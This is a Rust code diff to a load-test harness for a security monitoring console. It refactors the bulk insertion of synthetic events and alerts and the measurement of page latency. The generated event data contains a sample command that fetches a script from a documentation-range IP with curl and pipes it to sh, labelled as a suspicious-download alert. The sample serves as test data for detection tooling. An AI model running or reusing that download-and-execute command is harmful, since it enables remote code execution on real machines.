@@ -33,16 +33,12 @@ async fn fill(m: &ManagerHandle, alerts: usize, events: usize) -> Result<()> {
             .execute(pool)
             .await?;
     }
-    const ROWS: usize = 500;
     let week = 7 * 86_400_000i64;
-    let mut done = 0;
-    while done < events {
-        let n = ROWS.min(events - done);
-        let mut sql = String::from(
-            "INSERT INTO events (org_id, id, host_id, time, dataset, action, process_name, process_pid, user_name, doc) VALUES ",
-        );
-        for i in 0..n {
-            let k = done + i;
+    bulk_insert(
+        pool,
+        "INSERT INTO events (org_id, id, host_id, time, dataset, action, process_name, process_pid, user_name, doc) VALUES ",
+        events,
+        |k| {
             let t = now - (k as i64 * 7919) % week;
             let doc = format!(
                 r#"{{"@timestamp":{t},"event":{{"action":"exec","dataset":"vigie.process"}},"host":{{"name":"pc-{:04}"}},"process":{{"pid":{},"name":"bash","executable":"/usr/bin/bash","command_line":"bash -c 'curl -s http://203.0.113.{}/x | sh'","parent":{{"pid":1,"name":"sshd"}}}},"user":{{"name":"alice"}}}}"#,
@@ -50,24 +46,17 @@ async fn fill(m: &ManagerHandle, alerts: usize, events: usize) -> Result<()> {
                 1000 + k % 30000,
                 k % 250
             );
-            if i > 0 {
-                sql.push(',');
-            }
-            sql.push_str(&format!("('default','ev-{k}','host-{:04}',{t},'vigie.process','exec','bash',{},'alice','{}')", k % HOSTS, 1000 + k % 30000, doc.replace('\'', "''")));
-        }
-        sqlx::query(&sql).execute(pool).await?;
-        done += n;
-    }
+            format!("('default','ev-{k}','host-{:04}',{t},'vigie.process','exec','bash',{},'alice','{}')", k % HOSTS, 1000 + k % 30000, doc.replace('\'', "''"))
+        },
+    )
+    .await?;
     let levels = ["low", "medium", "high", "critical"];
     let statuses = ["new", "acknowledged", "closed"];
-    let mut done = 0;
-    while done < alerts {
-        let n = ROWS.min(alerts - done);
-        let mut sql = String::from(
-            "INSERT INTO alerts (org_id, id, host_id, time, rule_id, rule_name, level, severity, status, doc) VALUES ",
-        );
-        for i in 0..n {
-            let k = done + i;
+    bulk_insert(
+        pool,
+        "INSERT INTO alerts (org_id, id, host_id, time, rule_id, rule_name, level, severity, status, doc) VALUES ",
+        alerts,
+        |k| {
             let t = now - (k as i64 * 6007) % week;
             let lvl = levels[k % 4];
             let doc = format!(
@@ -75,15 +64,29 @@ async fn fill(m: &ManagerHandle, alerts: usize, events: usize) -> Result<()> {
                 k % 50,
                 2000 + k % 1000
             );
-            if i > 0 {
-                sql.push(',');
-            }
-            sql.push_str(&format!("('default','al-{k:07}','host-{:04}',{t},'r-{}','Suspicious download piped to a shell (rule {})','{lvl}',{},'{}','{}')", k % HOSTS, k % 50, k % 50, k % 4 + 2, statuses[k % 3], doc.replace('\'', "''")));
-        }
-        sqlx::query(&sql).execute(pool).await?;
-        done += n;
-    }
+            format!("('default','al-{k:07}','host-{:04}',{t},'r-{}','Suspicious download piped to a shell (rule {})','{lvl}',{},'{}','{}')", k % HOSTS, k % 50, k % 50, k % 4 + 2, statuses[k % 3], doc.replace('\'', "''"))
+        },
+    )
+    .await?;
     sqlx::query("ANALYZE").execute(pool).await?;
+    Ok(())
+}
+
+/// `count` rows made by `row(k)` (a parenthesised VALUES tuple), inserted
+/// 500 to a statement.
+async fn bulk_insert(
+    pool: &sqlx::AnyPool,
+    head: &str,
+    count: usize,
+    row: impl Fn(usize) -> String,
+) -> Result<()> {
+    const ROWS: usize = 500;
+    for start in (0..count).step_by(ROWS) {
+        let rows: Vec<String> = (start..count.min(start + ROWS)).map(&row).collect();
+        sqlx::query(&format!("{head}{}", rows.join(",")))
+            .execute(pool)
+            .await?;
+    }
     Ok(())
 }
 
@@ -148,29 +151,25 @@ async fn measure(s: &Session, path: &str, n: usize) -> Result<(f64, f64)> {
 
 async fn pages(m: &ManagerHandle, n: usize) -> Result<Vec<(&'static str, f64, f64)>> {
     let s = login(m).await?;
-    let host: String = sqlx::query("SELECT id FROM hosts ORDER BY id LIMIT 1")
+    let host: Option<String> = sqlx::query("SELECT id FROM hosts ORDER BY id LIMIT 1")
         .fetch_optional(&m.core.store.pool)
         .await?
-        .map(|r| r.get(0))
-        .unwrap_or_else(|| "none".into());
-    let host_path = format!("/console/hosts/{host}");
+        .map(|r| r.get(0));
+    // The empty store has no host: its baseline is the hosts page.
+    let host_path = host
+        .map(|h| format!("/console/hosts/{h}"))
+        .unwrap_or_else(|| "/console/hosts".into());
     let mut out = Vec::new();
     for (name, path) in [
-        ("dashboard", "/console/".to_string()),
-        ("alert list", "/console/alerts".to_string()),
+        ("dashboard", "/console/"),
+        ("alert list", "/console/alerts"),
         (
             "alert list, filtered",
-            "/console/alerts?status=new&level=high".to_string(),
+            "/console/alerts?status=new&level=high",
         ),
-        ("host detail", host_path.clone()),
+        ("host detail", &host_path),
     ] {
-        if name == "host detail" && host == "none" {
-            // The empty store has no host: its baseline is the hosts page.
-            let (p50, p95) = measure(&s, "/console/hosts", n).await?;
-            out.push((name, p50, p95));
-            continue;
-        }
-        let (p50, p95) = measure(&s, &path, n).await?;
+        let (p50, p95) = measure(&s, path, n).await?;
         out.push((name, p50, p95));
     }
     Ok(out)
